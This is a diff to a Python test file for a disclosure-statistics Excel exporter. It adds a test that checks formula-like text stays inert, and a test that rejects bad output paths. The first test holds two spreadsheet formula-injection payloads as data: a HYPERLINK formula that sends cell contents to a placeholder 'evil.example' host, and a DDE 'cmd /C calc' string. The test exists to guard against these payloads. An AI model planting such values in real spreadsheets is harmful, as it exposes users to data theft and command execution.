@@ -11,8 +11,10 @@ from sqlalchemy import func, select
 
 from tests.conftest import run_cli
 from zwgk_desktop.core.models import Disclosure, DisclosureItem, Objection, Photo, Posting, Setting
+from zwgk_desktop.core.users import SYSTEM_ACTOR
+from zwgk_desktop.ops.statistics import export_statistics
 from zwgk_desktop.services.reports import (
-    DISCLOSED_STATUSES, NoData, available_years, export_statistics, write_workbook, year_statistics,
+    DISCLOSED_STATUSES, NoData, available_years, write_workbook, year_statistics,
 )
 
 
@@ -122,7 +124,7 @@ def test_year_without_data_is_refused(demo_db):
 def test_workbook_is_formatted(demo_db, year, tmp_path):
     """Each table is a sheet with a bold header, frozen panes, money with two decimals and a bold totals row."""
     out = tmp_path / "统计.xlsx"
-    sheets = export_statistics(demo_db, year, out)
+    sheets = list(export_statistics(demo_db, SYSTEM_ACTOR, year, out).sheets)
     assert sheets == ["按类别", "按月份", "按村", "张贴留证", "异议处理", "社会救助", "公示清单"]
     wb = load_workbook(out)
     assert wb.sheetnames == sheets
@@ -172,3 +174,35 @@ def test_cli_report_stats(demo_config, demo_db, year, tmp_path):
     code, payload, err = run_cli("report", "stats", "--year", "2012", "-o", str(empty), "--json", data_dir=demo_config.data_dir)
     assert code == 1 and payload["error"]["code"] == "no_data" and "2012" in err
     assert not empty.exists()
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(demo_db, year, tmp_path):
+    """A notice title or village name beginning with = + - @ is written as text, never as a live formula."""
+    hostile_title = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    with demo_db.session() as s:
+        notice = s.get(Disclosure, disclosed_ids(demo_db, year)[0])
+        notice.title = hostile_title
+        item = s.execute(select(DisclosureItem).where(DisclosureItem.disclosure_id == notice.id).limit(1)).scalar()
+        item.village_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    out = tmp_path / "stats.xlsx"
+    export_statistics(demo_db, SYSTEM_ACTOR, year, out)
+    wb = load_workbook(out)
+    titles = {c.value: c.data_type for c in wb["公示清单"]["A"] if c.value}
+    assert titles[hostile_title] == "s"
+    villages = {c.value: c.data_type for c in wb["按村"]["A"] if c.value}
+    assert villages["@SUM(1+1)*cmd|' /C calc'!A0"] == "s"
+    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
+
+def test_a_bad_output_name_is_refused_before_any_work(demo_db, year, tmp_path):
+    """`export_statistics` to a .csv name or a missing folder is refused in Chinese and writes nothing."""
+    out = tmp_path / "out"
+    out.mkdir()
+    with pytest.raises(Exception) as caught:
+        export_statistics(demo_db, SYSTEM_ACTOR, year, out / "stats.csv")
+    assert caught.value.code == "bad_output" and ".xlsx" in caught.value.message
+    with pytest.raises(Exception) as caught:
+        export_statistics(demo_db, SYSTEM_ACTOR, year, out / "nowhere" / "stats.xlsx")
+    assert caught.value.code == "bad_output" and "不存在" in caught.value.message
+    assert list(out.iterdir()) == []
